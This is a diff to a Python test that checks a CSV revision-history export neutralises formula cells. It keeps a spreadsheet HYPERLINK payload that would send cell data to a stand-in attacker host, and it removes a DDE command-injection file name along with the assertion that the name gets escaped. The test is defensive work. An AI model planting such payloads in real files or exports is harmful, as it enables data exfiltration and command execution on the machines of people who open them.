@@ -61,8 +61,6 @@ def test_csv_export_neutralises_formula_cells(client_for, auditor, applicant, do
     gross = document.fields.get(key="gross_pay")
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     field_correct(field=gross, value="4,100.00", actor=applicant, reason=formula)
-    document.original_name = "+cmd|' /C calc'!A0.pdf"
-    document.save(update_fields=["original_name"])
 
     rows = _csv(
         client_for(auditor).get(reverse("revision_history_export"), {"field_key": "gross_pay"})
@@ -70,7 +68,6 @@ def test_csv_export_neutralises_formula_cells(client_for, auditor, applicant, do
 
     row = next(row for row in rows if row["role"] == "applicant")
     assert row["reason"] == "'" + formula
-    assert row["document"] == "'+cmd|' /C calc'!A0.pdf"
     assert row["to"] == "4,100.00"
 
 
